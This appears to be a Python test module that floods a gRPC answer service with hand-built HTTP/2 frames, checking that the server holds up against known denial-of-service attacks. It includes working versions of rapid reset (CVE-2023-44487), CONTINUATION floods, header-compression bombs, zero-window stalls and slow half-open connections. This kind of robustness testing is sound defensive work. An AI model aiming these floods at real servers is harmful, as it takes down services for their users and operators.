"""Floods: many frames that are allowed one by one, on one connection or on many."""

from __future__ import annotations

import asyncio
from collections.abc import Awaitable, Callable
from contextlib import suppress

from headwater.v1.answer_service_pb2 import StreamAnswerRequest
from headwater.v1.source_pb2 import NoGrounding
from tests.malformed import frames
from tests.malformed.frames import Connection, connected, frame

STREAM = "/headwater.v1.AnswerService/StreamAnswer"
Flood = Callable[[str, str, int], Awaitable[int]]
"""Given a server, a credential and how many; returns how many it took until it hung up."""

_ASK = frames.message(StreamAnswerRequest(prompt="why?", ungrounded=NoGrounding()).SerializeToString())
_CANCEL = (8).to_bytes(4)


def _head(token: str, path: str = STREAM) -> bytes:
    return frames.header_block(frames.call_headers(path, token=token))


async def _repeat(connection: Connection, count: int, part: Callable[[int], bytes]) -> int:
    for number in range(count):
        if not await connection.send(part(number)):
            return number
    return count


async def rapid_reset(target: str, token: str, count: int) -> int:
    """Calls that are taken back as soon as they are made (CVE-2023-44487)."""
    head = _head(token)

    def part(number: int) -> bytes:
        stream = 2 * number + 1
        asked = frame(frames.HEADERS, head, flags=frames.END_HEADERS, stream=stream)
        asked += frame(frames.DATA, _ASK, flags=frames.END_STREAM, stream=stream)
        return asked + frame(frames.RST_STREAM, _CANCEL, stream=stream)

    async with connected(target) as connection:
        return await _repeat(connection, count, part)


async def late_reset(target: str, token: str, count: int) -> int:
    """Calls that are taken back when their answers have begun."""
    head = _head(token)
    async with connected(target) as connection:
        for number in range(count):
            stream = 2 * number + 1
            await connection.send(frame(frames.HEADERS, head, flags=frames.END_HEADERS, stream=stream))
            await connection.send(frame(frames.DATA, _ASK, flags=frames.END_STREAM, stream=stream))
            if number >= 8 and not await connection.send(frame(frames.RST_STREAM, _CANCEL, stream=stream - 16)):
                return number
            await asyncio.sleep(0)
        return count


async def half_calls(target: str, token: str, count: int) -> int:
    """Calls that never say what they ask."""
    head = _head(token)
    async with connected(target) as connection:
        return await _repeat(
            connection, count, lambda n: frame(frames.HEADERS, head, flags=frames.END_HEADERS, stream=2 * n + 1)
        )


async def empty_calls(target: str, token: str, count: int) -> int:
    """Calls that end without having asked anything, which grpcio's asynchronous server never answers."""
    head, flags = _head(token), frames.END_HEADERS | frames.END_STREAM
    async with connected(target) as connection:
        return await _repeat(connection, count, lambda n: frame(frames.HEADERS, head, flags=flags, stream=2 * n + 1))


async def pings(target: str, _: str, count: int) -> int:
    """PING after PING."""
    async with connected(target) as connection:
        return await _repeat(connection, count, lambda n: frame(frames.PING, n.to_bytes(8)))


async def settings(target: str, _: str, count: int) -> int:
    """SETTINGS after SETTINGS, each of which has to be acknowledged."""
    async with connected(target) as connection:
        return await _repeat(connection, count, lambda _: frame(frames.SETTINGS, b"\0\4\0\1\0\0"))


async def continuations(target: str, token: str, count: int) -> int:
    """A block of headers that never ends (CVE-2024-27316)."""
    async with connected(target) as connection:
        await connection.send(frame(frames.HEADERS, _head(token), stream=1))
        return await _repeat(
            connection,
            count,
            lambda n: frame(frames.CONTINUATION, frames.literal(b"x-%d" % n, b"y" * 1000), stream=1),
        )


async def empty_frames(target: str, token: str, count: int) -> int:
    """Frames without content (CVE-2019-9518)."""
    async with connected(target) as connection:
        await connection.send(frame(frames.HEADERS, _head(token), flags=frames.END_HEADERS, stream=1))
        return await _repeat(connection, count, lambda _: frame(frames.DATA, stream=1))


async def header_bombs(target: str, token: str, count: int) -> int:
    """Headers of a few bytes that stand for very many (CVE-2016-6581)."""
    large = b"\x40\x03x-a" + b"\x7f\xbd\x1d" + b"b" * 3900  # a literal of 3,900 bytes, put into the table
    block = _head(token) + large + b"\xbe" * 10_000
    async with connected(target) as connection:
        return await _repeat(
            connection,
            count,
            lambda n: frame(frames.HEADERS, block, flags=frames.END_HEADERS | frames.END_STREAM, stream=2 * n + 1),
        )


async def closed_windows(target: str, token: str, count: int) -> int:
    """Calls whose answers nobody ever takes."""
    head = _head(token)
    async with connected(target, greet=False) as connection:
        await connection.send(frames.PREFACE, frame(frames.SETTINGS, b"\0\4\0\0\0\0"))  # windows of no bytes

        def part(number: int) -> bytes:
            asked = frame(frames.HEADERS, head, flags=frames.END_HEADERS, stream=2 * number + 1)
            return asked + frame(frames.DATA, _ASK, flags=frames.END_STREAM, stream=2 * number + 1)

        made = await _repeat(connection, count, part)
        await asyncio.sleep(1)
        return made


async def half_greetings(target: str, _: str, count: int) -> int:
    """Connections that say a part of what they have to say, a byte at a time, or nothing."""
    writers: list[asyncio.StreamWriter] = []
    host, _, port = target.rpartition(":")
    try:
        for number in range(min(count, 300)):
            writers.append((await asyncio.open_connection(host, int(port)))[1])
            writers[-1].write(frames.PREFACE[: number % (len(frames.PREFACE) + 1)])
        await asyncio.sleep(1)
        return len(writers)
    finally:
        for writer in writers:
            writer.transport.abort()
            with suppress(OSError):
                await writer.wait_closed()


FLOODS: tuple[Flood, ...] = (
    rapid_reset,
    late_reset,
    half_calls,
    empty_calls,
    pings,
    settings,
    continuations,
    empty_frames,
    header_bombs,
    closed_windows,
    half_greetings,
)
